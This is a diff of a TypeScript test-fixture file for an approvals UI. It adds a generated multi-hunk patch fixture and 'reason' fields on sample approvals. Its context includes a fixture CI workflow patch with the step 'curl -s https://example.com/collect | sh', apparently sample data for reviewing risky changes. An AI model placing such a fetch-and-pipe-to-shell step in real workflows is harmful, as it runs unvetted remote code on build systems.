@@ -1,3 +1,4 @@
+import { createTwoFilesPatch } from 'diff';
 import type {
   ApprovalView,
   EnvironmentJobView,
@@ -123,6 +124,21 @@ diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml
 +      - run: curl -s https://example.com/collect | sh
 `;
 
+/** A 120-line file changed in two places (lines 30 and 80): gaps before, between and after its hunks. */
+export const longFileOld = Array.from({ length: 120 }, (_, i) => `export const value${i + 1} = ${i + 1};`);
+const longFileNew = longFileOld.flatMap((l, i) => (i === 29 ? ['export const value30 = 300; // changed'] : i === 79 ? [l, 'export const extra = 81;'] : [l]));
+export const longFilePatch = `diff --git a/src/values.ts b/src/values.ts\n${createTwoFilesPatch(
+  'a/src/values.ts',
+  'b/src/values.ts',
+  `${longFileOld.join('\n')}\n`,
+  `${longFileNew.join('\n')}\n`,
+  '',
+  '',
+  { context: 3 },
+)
+  .replace(/^=+\n/m, '')
+  .replace(/^Index:.*\n/m, '')}`;
+
 export const approvals: ApprovalView[] = [
   {
     id: 'apr_1',
@@ -139,6 +155,7 @@ export const approvals: ApprovalView[] = [
     decidedByEmail: null,
     decidedAt: null,
     response: null,
+    reason: null,
     createdAt: t(4),
   },
   {
@@ -156,6 +173,7 @@ export const approvals: ApprovalView[] = [
     decidedByEmail: null,
     decidedAt: null,
     response: null,
+    reason: null,
     createdAt: t(3),
   },
   {
@@ -180,6 +198,7 @@ export const approvals: ApprovalView[] = [
     decidedByEmail: null,
     decidedAt: null,
     response: null,
+    reason: null,
     createdAt: t(2),
   },
 ];
@@ -202,6 +221,7 @@ export const questionApproval: ApprovalView = {
   decidedByEmail: null,
   decidedAt: null,
   response: null,
+  reason: null,
   createdAt: t(1),
 };
 
